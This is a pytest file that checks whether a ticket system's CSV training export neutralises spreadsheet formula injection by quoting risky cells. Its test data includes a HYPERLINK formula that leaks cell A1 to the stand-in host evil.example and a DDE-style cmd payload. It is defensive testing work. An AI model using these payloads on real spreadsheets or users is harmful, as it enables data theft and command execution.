"""Formula injection: cells a spreadsheet would evaluate are exported as text."""

import csv
from decimal import Decimal
from pathlib import Path

import pytest
import typer
from sqlmodel import Session, col, select
from typer.testing import CliRunner

from hotline.categories.models import Category
from hotline.cli import day_command, export_training
from hotline.db import make_engine
from hotline.enums import TicketStatus
from hotline.export import needs_guard, safe_cell
from hotline.tickets.models import Ticket

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


@pytest.mark.parametrize(
    "text",
    [
        HYPERLINK,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\u3000=1+1",
        "＝1+1",
        "-",
    ],
)
def test_text_a_spreadsheet_would_evaluate_gets_a_quote(text: str) -> None:
    assert needs_guard(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["双清区", "2026-11-23", "97.61%", "-12.5", "+86", "", "a=b", "'=已转义"])
def test_ordinary_text_and_plain_numbers_are_left_alone(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, 0.25, -0.5, Decimal("-1.5"), True, None])
def test_real_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) is value


def test_the_training_export_quotes_formula_cells(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    url = f"sqlite:///{tmp_path / 'export.db'}"
    monkeypatch.setenv("HOTLINE_DATABASE_URL", url)
    app = typer.Typer()
    app.command("day")(day_command)
    app.command("export")(export_training)
    runner = CliRunner()
    assert runner.invoke(app, ["day", "--date", "2026-11-23"]).exit_code == 0
    engine = make_engine(url)
    with Session(engine) as session:
        ticket = session.exec(select(Ticket).where(col(Ticket.status) == TicketStatus.CLOSED)).first()
        assert ticket is not None and ticket.category_id is not None
        ticket.title = HYPERLINK
        category = session.get(Category, ticket.category_id)
        assert category is not None
        category.code = "@SUM(1+1)"
        session.add_all([ticket, category])
        session.commit()
        content = ticket.content
    engine.dispose()
    out = tmp_path / "train.csv"
    result = runner.invoke(app, ["export", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = [row for row in csv.reader(handle)][1:]
    texts = [row[0] for row in rows if "HYPERLINK" in row[0]]
    assert texts and all(text[0] == "'" for text in texts)
    assert texts[0] == "'" + HYPERLINK + "。" + content
    assert {row[2] for row in rows} == {"'@SUM(1+1)"}
    assert {row[1] for row in rows} == {"urban"}  # a plain code is written as it is
